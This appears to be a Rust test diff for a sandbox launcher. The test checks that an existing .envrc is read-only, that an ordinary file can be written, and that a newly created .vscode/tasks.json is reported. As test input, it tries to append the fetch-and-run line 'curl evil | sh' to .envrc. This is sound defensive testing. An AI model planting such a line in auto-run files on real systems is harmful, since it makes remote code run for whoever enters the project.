@@ -342,3 +342,47 @@ fn only_standard_streams_cross_into_the_sandbox() {
         );
     }
 }
+
+#[test]
+fn existing_protected_files_are_read_only_and_new_ones_are_reported() {
+    for caller in CALLERS {
+        let work = TempDir::new("protected");
+        work.write(".envrc", "export SAFE=1\n");
+        let out = sh(
+            caller,
+            &work.path,
+            &[],
+            "echo 'curl evil | sh' >> .envrc 2>/dev/null || echo envrc-refused; \
+             mkdir .vscode && echo '{}' > .vscode/tasks.json && echo created; echo ok > normal.txt",
+        );
+        let text = stdout(&out);
+        assert!(
+            text.contains("envrc-refused"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+        assert_eq!(
+            std::fs::read_to_string(work.join(".envrc")).unwrap(),
+            "export SAFE=1\n"
+        );
+        // The allowed twin: an ordinary file in the same directory is written.
+        assert_eq!(
+            std::fs::read_to_string(work.join("normal.txt")).unwrap(),
+            "ok\n"
+        );
+        // A protected path that did not exist could be created (making it uncreatable would
+        // mean creating it on the host); the launcher says so when the sandbox ends.
+        assert!(text.contains("created"), "{caller:?}: {}", explain(&out));
+        let err = integration::stderr(&out);
+        assert!(
+            err.contains(".vscode was created inside the sandbox"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+        assert!(
+            !err.contains(".envrc was created"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+    }
+}
